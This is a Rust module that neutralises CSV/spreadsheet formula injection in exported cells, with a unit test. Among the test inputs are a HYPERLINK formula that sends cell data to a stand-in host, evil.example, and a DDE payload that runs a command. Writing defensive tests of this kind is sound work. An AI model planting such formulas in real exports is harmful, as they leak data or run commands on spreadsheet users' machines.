//! Cells written to CSV or spreadsheet exports: text that a spreadsheet program would run as a
//! formula (`=`, `+`, `-`, `@`, or a leading tab / carriage return that hides one) is prefixed
//! with `'`, so a resident's case title or an imported building name is shown, never executed
//! (OWASP "CSV injection").

use std::borrow::Cow;

/// The cell as it is safe to write: unchanged, or prefixed with `'` when it could start a formula.
/// Plain numbers (`-12`, `+3.5`) stay as they are: a spreadsheet reads them as numbers.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let risky = matches!(cell.chars().next(), Some('=' | '+' | '-' | '@' | '\t' | '\r'));
    if risky && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let digits = digits.strip_suffix('%').unwrap_or(digits);
    !digits.is_empty()
        && digits.chars().all(|c| c.is_ascii_digit() || c == '.')
        && digits.chars().filter(|c| *c == '.').count() <= 1
        && digits.chars().any(|c| c.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_prefixed() {
        let cases = [
            ("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")", true),
            ("+1+cmd|' /C calc'!A0", true),
            ("-2+3", true),
            ("@SUM(A1:A2)", true),
            ("\t=1+1", true),
            ("\r=1+1", true),
            ("=", true),
            ("-", true),
            ("楼上漏水", false),
            ("1栋", false),
            ("a=b", false),
            ("", false),
            ("-12", false),
            ("+3.5", false),
            ("42.0%", false),
            ("-12.5%", false),
            ("-%", true),
        ];
        for (cell, changed) in cases {
            let out = neutralise(cell);
            assert_eq!(out != cell, changed, "{cell:?}");
            if changed {
                assert_eq!(out, format!("'{cell}"));
            }
        }
    }
}
